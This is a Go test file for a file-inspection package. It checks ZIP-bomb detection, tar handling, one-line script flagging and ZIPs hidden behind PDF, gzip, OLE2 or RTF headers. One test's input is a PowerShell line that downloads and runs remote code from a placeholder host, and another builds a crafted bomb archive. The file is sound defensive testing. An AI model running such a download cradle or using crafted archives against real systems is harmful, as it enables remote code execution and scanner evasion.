package container_test

import (
	"archive/tar"
	"bytes"
	"encoding/binary"
	"slices"
	"testing"

	"cordon/inspect/compose"
	"cordon/inspect/container"
)

// A file that a ZIP's directory lists again and again is not read again and again,
// though nothing comes out of it.
func TestFilesOfZIPAreReadOnce(t *testing.T) {
	const method, files = 8, 10_000
	empty := append(bytes.Repeat([]byte{0, 0, 0, 0xFF, 0xFF}, 100_000), 1, 0, 0, 0xFF, 0xFF) // deflate blocks of no bytes
	b := compose.StoredZIP("a", empty)
	directory, end := bytes.LastIndex(b, []byte("PK\x01\x02")), bytes.LastIndex(b, []byte("PK\x05\x06"))
	b[8], b[directory+10] = method, method
	entry := b[directory:end]
	last := bytes.Clone(b[end:])
	binary.LittleEndian.PutUint32(last[12:], uint32(files*len(entry)))
	n := opened(container.Limits{}, slices.Concat(b[:directory], bytes.Repeat(entry, files), last))
	if !n.has("container-bomb") || len(n.members) > 4 {
		t.Errorf("%d members, found %v", len(n.members), n.found)
	}
}

// All that tar unpacks to files is passed on, whatever sort of file it is called.
func TestFilesOfTar(t *testing.T) {
	for _, sort := range []byte{tar.TypeReg, tar.TypeCont, 0} {
		var b bytes.Buffer
		w := tar.NewWriter(&b)
		w.WriteHeader(&tar.Header{Name: "a", Size: 7, Typeflag: sort, Format: tar.FormatUSTAR})
		w.Write([]byte("content"))
		w.Close()
		if n := opened(container.Limits{}, b.Bytes()); string(n.text) != "content" {
			t.Errorf("%q: passed on %q", sort, n.text)
		}
	}
}

// One line is script enough when it is all there is.
func TestScriptsOfOneLine(t *testing.T) {
	for text, want := range map[string]bool{
		"IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')\r\n": true,
		"Get-together on Friday; the invoke-expression talk is at ten":              false,
	} {
		if got := opened(container.Limits{}, []byte(text)).has("script-text"); got != want {
			t.Errorf("%q: %v", text, got)
		}
	}
}

// A ZIP that is appended to something else is one to unpackers.
func TestZIPBehindAnotherFormat(t *testing.T) {
	archive := compose.ZIP("report.dat", []byte("content of a member"))
	blank := make([]byte, 2000)
	for name, first := range map[string][]byte{
		"PDF": compose.PDF("1"), "gzip": compose.Gzip(nil), "OLE2": compose.Compound(nil), "RTF": []byte(`{\rtf1 text}`),
	} {
		for _, between := range [][]byte{nil, blank} {
			n := opened(container.Limits{}, slices.Concat(first, between, archive))
			if !bytes.Contains(n.text, []byte("content of a member")) {
				t.Errorf("%s, %d bytes, ZIP: members %v", name, len(between), n.members)
			}
		}
	}
	n := opened(container.Limits{}, slices.Concat(compose.PDF("1"), archive[:30], blank, archive, blank, archive))
	if n.has("container-mismatch") || n.has("container-bomb") {
		t.Errorf("three in a PDF: found %v", n.found)
	}
}
